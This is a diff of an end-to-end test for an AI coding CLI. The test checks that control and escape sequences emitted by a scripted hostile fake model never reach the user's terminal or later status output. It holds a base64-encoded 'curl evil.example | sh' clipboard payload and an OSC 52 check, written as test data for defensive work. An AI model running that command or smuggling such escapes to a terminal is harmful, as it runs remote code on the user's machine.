@@ -22,6 +22,8 @@ import { startPtyCli } from '../support/pty-cli.js';
 import { assertFreshBuild, runCli, type CliResult } from '../support/run-cli.js';
 import { bash, say, testListMarkdown, write } from '../support/scripted-brain.js';
 import { createStageBrain, type StageBrain } from '../support/stage-brain.js';
+import { sandboxForThisMachine } from '../support/sandbox-for-this-machine.js';
+import { toolchain } from '../support/toolchains.js';
 
 const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
 /** Every kind of control the finding names, and a few more. */
@@ -98,72 +100,80 @@ function controls(text: string): string[] {
   return found;
 }
 
-describe('no model-written control sequence reaches the terminal (issue 11, finding 13)', () => {
-  let repo: ProjectRepo;
-  let server: FakeAnthropicServer;
-  let brain: StageBrain;
-  let before: CheckoutState;
-  let terminal: string;
-  let exitCode: number;
-  let runId: string;
-  const afterwards: Array<{ args: string[]; result: CliResult }> = [];
+/** The subject is the terminal, not the sandbox: where bubblewrap is missing the run opts out. */
+const sandbox = sandboxForThisMachine();
+/** The run is on a pseudo-terminal made by util-linux `script`. */
+const script = toolchain('script');
 
-  beforeAll(async () => {
-    assertFreshBuild();
-    repo = await createProjectRepo(PROJECT_FILES);
-    server = await startFakeAnthropicServer({ apiKey: E2E_API_KEY });
-    brain = hostileScript();
-    server.setFallback((request) => brain.reply(request));
-    before = checkoutState(repo);
-    const cli = startPtyCli(['tdd', 'An answer module', ...ANTHROPIC_FLAGS], {
-      cwd: repo.dir,
-      env: ratchetEnv(repo, server),
+describe.skipIf(script.missing)(
+  `no model-written control sequence reaches the terminal (issue 11, finding 13)${script.note}${sandbox.note}`,
+  () => {
+    let repo: ProjectRepo;
+    let server: FakeAnthropicServer;
+    let brain: StageBrain;
+    let before: CheckoutState;
+    let terminal: string;
+    let exitCode: number;
+    let runId: string;
+    const afterwards: Array<{ args: string[]; result: CliResult }> = [];
+
+    beforeAll(async () => {
+      assertFreshBuild();
+      repo = await createProjectRepo(PROJECT_FILES);
+      server = await startFakeAnthropicServer({ apiKey: E2E_API_KEY });
+      brain = hostileScript();
+      server.setFallback((request) => brain.reply(request));
+      before = checkoutState(repo);
+      const cli = startPtyCli(['tdd', 'An answer module', ...ANTHROPIC_FLAGS, ...sandbox.flags], {
+        cwd: repo.dir,
+        env: ratchetEnv(repo, server),
+      });
+      try {
+        exitCode = await cli.exit();
+      } finally {
+        cli.kill();
+      }
+      terminal = cli.raw();
+      runId = /run (\d{8}-\d{6}-[0-9a-z]+)/.exec(cli.text())?.[1] ?? '(none)';
+      for (const args of [
+        ['status', runId],
+        ['history', runId],
+        ['report', runId],
+        ['status', runId, '--json'],
+      ])
+        afterwards.push({ args, result: await runCli(args, { cwd: repo.dir, env: ratchetEnv(repo, server) }) });
+    }, 180_000);
+
+    afterAll(async () => {
+      await (server as FakeAnthropicServer | undefined)?.close();
+      await (repo as ProjectRepo | undefined)?.cleanup();
     });
-    try {
-      exitCode = await cli.exit();
-    } finally {
-      cli.kill();
-    }
-    terminal = cli.raw();
-    runId = /run (\d{8}-\d{6}-[0-9a-z]+)/.exec(cli.text())?.[1] ?? '(none)';
-    for (const args of [
-      ['status', runId],
-      ['history', runId],
-      ['report', runId],
-      ['status', runId, '--json'],
-    ])
-      afterwards.push({ args, result: await runCli(args, { cwd: repo.dir, env: ratchetEnv(repo, server) }) });
-  }, 180_000);
 
-  afterAll(async () => {
-    await (server as FakeAnthropicServer | undefined)?.close();
-    await (repo as ProjectRepo | undefined)?.cleanup();
-  });
+    it('runs the hostile script to the end on a terminal, showing its words without the controls', () => {
+      expect(brain.unexpected).toEqual([]);
+      expect(exitCode, terminal.slice(-3000)).toBe(0);
+      expect(brain.unplayed()).toEqual([]);
+      expect(checkoutState(repo)).toEqual(before);
+      // The streamed replies and the test name were shown, their printable parts kept.
+      expect(terminal).toContain('Planning');
+      expect(terminal).toContain('answers 42');
+      expect(terminal).toContain('quietly');
+    });
 
-  it('runs the hostile script to the end on a terminal, showing its words without the controls', () => {
-    expect(brain.unexpected).toEqual([]);
-    expect(exitCode, terminal.slice(-3000)).toBe(0);
-    expect(brain.unplayed()).toEqual([]);
-    expect(checkoutState(repo)).toEqual(before);
-    // The streamed replies and the test name were shown, their printable parts kept.
-    expect(terminal).toContain('Planning');
-    expect(terminal).toContain('answers 42');
-    expect(terminal).toContain('quietly');
-  });
+    it('sends the terminal no control character or escape sequence during the run', () => {
+      expect(controls(terminal)).toEqual([]);
+      expect(terminal).not.toContain(']52;c;');
+    });
 
-  it('sends the terminal no control character or escape sequence during the run', () => {
-    expect(controls(terminal)).toEqual([]);
-    expect(terminal).not.toContain(']52;c;');
-  });
-
-  it('prints none with status, history and report, and --json escapes them', () => {
-    for (const { args, result } of afterwards) {
-      expect(result.exitCode, `${args.join(' ')}: ${result.stderr}`).toBe(0);
-      expect(controls(result.stdout), args.join(' ')).toEqual([]);
-      expect(controls(result.stderr), args.join(' ')).toEqual([]);
-    }
-    // history shows the test name (in its notes and subjects): what is left of it.
-    const history = afterwards.find(({ args }) => args[0] === 'history')?.result.stdout ?? '';
-    expect(history).toContain('answers 42');
-  });
-});
+    it('prints none with status, history and report, and --json escapes them', () => {
+      for (const { args, result } of afterwards) {
+        expect(result.exitCode, `${args.join(' ')}: ${result.stderr}`).toBe(0);
+        expect(controls(result.stdout), args.join(' ')).toEqual([]);
+        expect(controls(result.stderr), args.join(' ')).toEqual([]);
+      }
+      // history shows the test name (in its notes and subjects): what is left of it.
+      const history = afterwards.find(({ args }) => args[0] === 'history')?.result.stdout ?? '';
+      expect(history).toContain('answers 42');
+    });
+  },
+);
